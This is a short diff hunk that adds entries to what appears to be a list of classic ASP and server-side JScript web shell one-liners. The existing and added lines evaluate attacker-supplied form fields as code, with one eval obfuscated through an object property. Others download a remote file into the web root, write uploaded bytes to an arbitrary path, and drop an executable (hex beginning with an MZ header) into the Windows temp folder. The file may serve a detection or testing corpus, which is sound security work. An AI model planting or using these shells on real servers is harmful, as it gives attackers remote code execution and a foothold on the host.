@@ -6,3 +6,5 @@
 <% Set h = CreateObject("Microsoft.XMLHTTP") : h.Open "GET", u, False : h.Send : Set t = CreateObject("ADODB.Stream") : t.Type = 1 : t.Open : t.Write h.ResponseBody : t.SaveToFile Server.MapPath( "up.asp" ), 2 %>
 <% Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes) : st.SaveToFile Request("p"), 2 %>
 <script runat="server" language="jscript">eval( String( Request.Form("x") ) )</script>
+<script runat=server language=jscript>var o = new Object(); o.x = eval; o.x(Request.Form('#') + '')</script>
+<% h = "4D5A90000300000004000000FFFF0000B8000000" : Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.SaveToFile "c:\windows\temp\a.exe", 2 %>
